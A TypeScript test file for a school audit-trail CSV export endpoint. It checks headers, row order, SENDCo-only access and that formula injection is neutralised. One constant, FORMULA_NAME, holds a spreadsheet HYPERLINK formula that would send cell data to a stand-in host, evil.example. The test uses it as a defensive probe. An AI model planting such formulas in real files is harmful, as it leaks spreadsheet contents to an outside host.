import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_ACTION_LABELS } from '@ehcp/shared';
import { AuditEvent, User } from '../../models/index.ts';
import { parseCsv } from '../../services/index.ts';
import { finaliseForTest } from '../../test/finalised-review.ts';
import type { TestClient } from '../../test/http-client.ts';
import { dropTestDatabase } from '../../test/test-app.ts';
import { startWithTwoSchools, type TwoSchools } from '../../test/two-schools.ts';
import { tokenOf } from '../../test/participant-links.ts';

let s: TwoSchools;
/** A name a spreadsheet would run as a formula, with a comma and quotes for good measure. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click, please")';

/** Downloads the CSV as a browser would (session cookie), returning status, headers and the exact text. */
async function download(client: TestClient) {
  const response = await fetch(`${s.t.baseUrl}/api/audit/export.csv`, {
    headers: client.sessionCookie ? { Cookie: client.sessionCookie } : {},
  });
  // Keep the byte-order mark (response.text() would drop it).
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
  return { status: response.status, headers: response.headers, text };
}
const rowsOf = (text: string) => parseCsv(text).map((record) => record.fields);

beforeAll(async () => {
  s = await startWithTwoSchools('2026-01-20');
  // The SENDCo's own name is what the trail records as the actor of their actions.
  await User.updateOne({ _id: s.home.sendco.id }, { $set: { name: FORMULA_NAME } });
  await finaliseForTest(s.home);
  const created = await s.sendco.post(`/api/reviews/${s.home.reviewId}/share-links`, {});
  const token = tokenOf(created.body.link.url);
  await fetch(`${s.t.baseUrl}/api/shared/${token}`, { headers: { 'User-Agent': 'Browser "X", version 1' } });
});
afterAll(async () => {
  await s.t.stop();
  await dropTestDatabase();
});

describe('GET /api/audit/export.csv', () => {
  it('downloads the school’s trail as CSV, newest first, beginning with the download itself', async () => {
    const result = await download(s.sendco);
    expect(result.status).toBe(200);
    expect(result.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(result.headers.get('content-disposition')).toBe('attachment; filename="audit-trail-2026-01-20.csv"');
    expect(result.headers.get('cache-control')).toBe('private, no-store');
    expect(result.text.startsWith('\uFEFFTime (UTC),Event,Action,')).toBe(true);
    expect(result.text.endsWith('\r\n')).toBe(true);

    const [header, ...rows] = rowsOf(result.text);
    expect(header).toEqual([
      'Time (UTC)',
      'Event',
      'Action',
      'Who',
      'Kind of actor',
      'Concerning',
      'Target id',
      'Review id',
      'Details',
    ]);
    expect(rows.map((row) => row[2])).toEqual([
      'audit.exported',
      'share_link.viewed',
      'share_link.created',
      'session.signed_in',
      'session.signed_in',
    ]);
    expect(rows[0]!.slice(1, 5)).toEqual([AUDIT_ACTION_LABELS['audit.exported'], 'audit.exported', `'${FORMULA_NAME}`, 'staff']);
    const [, , , who, kind, concerning, targetId, reviewId, details] = rows[1]!;
    expect([who, kind, concerning, reviewId]).toEqual([
      'Local authority (read-only link)',
      'share-link',
      'share-link',
      s.home.reviewId,
    ]);
    expect(targetId).toMatch(/^[0-9a-f]{24}$/);
    expect(details).toMatch(/^userAgent=Browser "X", version 1; addressHash=[0-9a-f]{64}$/);
    expect(new Date(rows[0]![0]!).toISOString()).toBe(rows[0]![0]);
  });

  it('neutralises formulas: no cell of the file begins with = + - or @', async () => {
    const rows = rowsOf((await download(s.sendco)).text);
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA_NAME}`);
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  it('records every download in the trail the SENDCo sees', async () => {
    const before = await AuditEvent.countDocuments({ schoolId: s.home.schoolId, action: 'audit.exported' });
    await download(s.sendco);
    expect(await AuditEvent.countDocuments({ schoolId: s.home.schoolId, action: 'audit.exported' })).toBe(before + 1);
    const [latest] = (await s.sendco.get('/api/audit')).body.events;
    expect(latest).toMatchObject({
      action: 'audit.exported',
      actor: { kind: 'staff', id: s.home.sendco.id },
      details: { format: 'csv' },
    });
  });

  it('is for the SENDCo only, and holds only their school’s events', async () => {
    expect((await download(s.anonymous)).status).toBe(401);
    const asStaff = await download(s.staff);
    expect(asStaff.status).toBe(403);
    expect(JSON.parse(asStaff.text).error.code).toBe('forbidden');
    const other = await download(s.otherSendco);
    expect(other.status).toBe(200);
    const rows = rowsOf(other.text).slice(1);
    expect(rows.map((row) => row[2])).toEqual(['audit.exported', 'session.signed_in']);
    expect(other.text).not.toContain(s.home.reviewId);
    expect(
      await AuditEvent.countDocuments({ schoolId: s.home.schoolId, 'actor.id': s.home.staff.id, action: 'audit.exported' }),
    ).toBe(0);
  });
});
